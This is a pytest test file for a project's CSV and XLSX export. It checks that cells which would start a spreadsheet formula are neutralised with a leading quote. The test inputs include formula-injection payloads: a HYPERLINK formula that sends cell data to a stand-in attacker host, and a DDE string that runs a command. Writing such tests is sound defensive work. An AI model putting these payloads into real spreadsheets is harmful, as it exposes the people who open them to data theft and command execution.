"""CSV cells a spreadsheet would run as formulas are shown as text instead."""

from __future__ import annotations

import ast
import csv
import io

import pytest

from interfaces.http.spreadsheets import csv_text, neutralised
from tests.conftest import ROOT


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://angripare.example/?d="&A2;"Öppna")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1;2)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote(cell: str) -> None:
    assert neutralised(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["150000.00", "-250.50", "-3", "0", None, 12, "Region =x", ""])
def test_numbers_and_ordinary_text_stay_as_they_are(cell: object) -> None:
    assert neutralised(cell) == cell


def test_a_whole_sheet_reads_back_neutralised() -> None:
    rows = [{"name": '=1+"a,b"', "amount": "-10.00", "note": None}]
    text = csv_text(["name", "amount", "note"], rows)
    assert text.endswith("\r\n")
    assert list(csv.DictReader(io.StringIO(text))) == [
        {"name": '\'=1+"a,b"', "amount": "-10.00", "note": ""}
    ]


def test_every_csv_the_project_writes_goes_through_the_shared_function() -> None:
    """The `csv` module is imported in one place only to write: where cells are
    neutralised. The import's reader (application/imports/reading.py) only reads."""
    writers = sorted(
        str(path.relative_to(ROOT))
        for package in ("domain", "application", "infrastructure", "interfaces")
        for path in (ROOT / package).rglob("*.py")
        if _imports_csv(path.read_text())
    )
    assert writers == ["application/imports/reading.py", "interfaces/http/spreadsheets.py"]
    reader = (ROOT / "application/imports/reading.py").read_text()
    assert "writer" not in reader.replace("DictWriter", "writer")


def _imports_csv(source: str) -> bool:
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names):
            return True
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            return True
    return False


def test_an_xlsx_list_keeps_amounts_as_numbers_and_text_as_text() -> None:
    from decimal import Decimal

    from openpyxl import load_workbook

    from interfaces.http.spreadsheets import xlsx_bytes

    content = xlsx_bytes(
        ["case_title", "amount"], [{"case_title": "=HYPERLINK(1)", "amount": Decimal("1234.50")}]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    title, amount = sheet["A2"], sheet["B2"]
    assert (title.value, title.data_type) == ("=HYPERLINK(1)", "s")
    assert (amount.value, amount.number_format) == (1234.5, "#,##0.00")
